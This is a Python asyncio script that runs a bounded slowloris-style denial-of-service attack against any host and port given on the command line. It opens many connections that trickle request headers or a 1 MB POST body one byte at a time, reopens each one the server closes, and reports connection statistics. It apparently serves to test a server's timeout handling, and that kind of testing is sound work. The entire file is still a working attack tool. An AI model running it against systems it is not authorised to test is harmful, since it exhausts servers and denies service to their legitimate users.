#!/usr/bin/env python3
"""A bounded slow-header and slow-body attack on HOST:PORT for SECONDS.

HEADERS connections each send a request head one byte every DELAY seconds and never finish it;
BODIES connections each send a complete POST head announcing a 1 MB body, then trickle the
body one byte every DELAY seconds. A connection the server closes (408 after its deadline) is
reopened at once, so the pressure stays on. Prints a summary line at the end.
Usage: slow_clients.py HOST PORT HEADERS BODIES SECONDS [DELAY]
"""
import asyncio, sys, time

host, port = sys.argv[1], int(sys.argv[2])
headers_n, bodies_n, seconds = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
delay = float(sys.argv[6]) if len(sys.argv) > 6 else 1.0
stats = {"opened": 0, "closed_by_server": 0, "refused": 0, "bytes": 0, "open": 0, "peak": 0}
slow_head = f"GET /products HTTP/1.1\r\nHost: {host}:{port}\r\nX-Slow: ".encode() + b"a" * 100_000
post_head = (f"POST /products HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: multipart/form-data; boundary=x\r\n"
             f"Content-Length: 1000000\r\n\r\n").encode()


async def attacker(index, deadline, body):
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["refused"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["opened"] += 1
        stats["open"] += 1
        stats["peak"] = max(stats["peak"], stats["open"])
        try:
            if body:
                writer.write(post_head)
            await asyncio.sleep((index % 50) / 50 * delay)
            position = 0
            while time.monotonic() < deadline:
                writer.write(b"-" if body else slow_head[position:position + 1])
                position += 1
                stats["bytes"] += 1
                await writer.drain()
                try:
                    if await asyncio.wait_for(reader.read(1), delay):
                        break  # the server answered (408) and will close
                    else:
                        break
                except asyncio.TimeoutError:
                    pass
            stats["closed_by_server"] += time.monotonic() < deadline
        except OSError:
            stats["closed_by_server"] += 1
        finally:
            stats["open"] -= 1
            writer.close()


async def main():
    deadline = time.monotonic() + seconds
    tasks = [asyncio.create_task(attacker(i, deadline, False)) for i in range(headers_n)]
    tasks += [asyncio.create_task(attacker(i, deadline, True)) for i in range(bodies_n)]
    await asyncio.gather(*tasks, return_exceptions=True)
    print(f"attack: {headers_n} slow-header + {bodies_n} slow-body clients for {seconds:.0f} s: "
          f"{stats['opened']} connections opened (peak {stats['peak']} at once), {stats['closed_by_server']} closed "
          f"by the server, {stats['refused']} refused, {stats['bytes']} bytes trickled", flush=True)

asyncio.run(main())
